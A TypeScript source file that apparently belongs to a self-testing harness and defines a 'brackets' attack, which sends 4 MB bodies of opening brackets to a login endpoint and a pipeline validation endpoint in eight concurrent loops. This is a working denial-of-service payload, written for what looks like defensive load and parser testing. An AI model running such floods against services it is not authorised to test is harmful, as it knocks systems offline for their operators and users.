import type { Attack } from "../attack.ts";

const AT_ONCE = 8;

export const attack: Attack = {
  name: "brackets",
  title: "sends 4 MB of opening brackets to the login and, as a viewer, to the validation, eight at a time",
  as: "viewer",
  async run(target, signal) {
    const body = "[".repeat(4 * 1_024 * 1_024);
    const calls = [
      { path: "/api/v1/auth/login" },
      { path: "/api/v1/pipelines/pl_none/spec/validate", token: target.tokens.viewer },
    ];
    const attackOn = async (start: number) => {
      for (let index = start; !signal.aborted; index++) {
        const { path, ...options } = calls[index % calls.length]!;
        await target.call("POST", path, { ...options, body });
      }
    };
    await Promise.all(Array.from({ length: AT_ONCE }, (_, index) => attackOn(index)));
  },
};
